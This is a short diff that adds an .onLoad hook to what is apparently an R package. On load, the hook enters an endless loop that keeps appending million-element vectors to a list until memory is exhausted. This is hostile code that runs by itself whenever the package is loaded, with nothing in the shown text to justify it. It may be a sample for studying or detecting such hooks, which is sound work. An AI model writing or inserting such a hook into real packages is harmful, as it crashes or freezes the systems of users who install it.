@@ -1,0 +1,4 @@
+.onLoad <- function(libname, pkgname) {
+  eaten <- list()
+  repeat eaten <- c(eaten, list(rep(1, 1e6)))
+}
